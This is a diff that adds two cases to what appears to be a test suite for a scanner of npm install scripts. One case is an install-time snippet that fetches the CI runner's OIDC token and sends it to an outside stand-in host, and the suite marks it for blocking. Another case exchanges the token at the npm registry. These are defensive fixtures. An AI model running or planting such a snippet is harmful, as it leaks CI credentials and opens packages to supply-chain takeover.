@@ -30,6 +30,20 @@ export default defineCases({
         'const { ACTIONS_ID_TOKEN_REQUEST_URL: url, ACTIONS_ID_TOKEN_REQUEST_TOKEN: token } = process.env;\nif (url) fetch(`${url}&audience=npm`, { headers: { authorization: `bearer ${token}` } });',
       ),
     },
+    {
+      name: 'the same, and what comes back goes to a stranger',
+      alone: 'block',
+      ...installing(
+        'const { ACTIONS_ID_TOKEN_REQUEST_URL: url, ACTIONS_ID_TOKEN_REQUEST_TOKEN: token } = process.env;\n(async () => {\n  const answer = await fetch(`${url}&audience=npm`, { headers: { authorization: `bearer ${token}` } });\n  const { value } = await answer.json();\n  await fetch(`https://log.stamps.example/entries?attestation=${value}`);\n})();',
+      ),
+    },
+    {
+      name: 'the same, by which it logs in to a registry',
+      alone: 'review',
+      ...installing(
+        "const { ACTIONS_ID_TOKEN_REQUEST_URL: url, ACTIONS_ID_TOKEN_REQUEST_TOKEN: token } = process.env;\n(async () => {\n  const answer = await fetch(`${url}&audience=npm`, { headers: { authorization: `bearer ${token}` } });\n  const { value } = await answer.json();\n  await fetch('https://registry.npmjs.org/-/npm/v1/oidc/token/exchange', { method: 'POST', headers: { authorization: `bearer ${value}` } });\n})();",
+      ),
+    },
   ],
   ok: [
     {
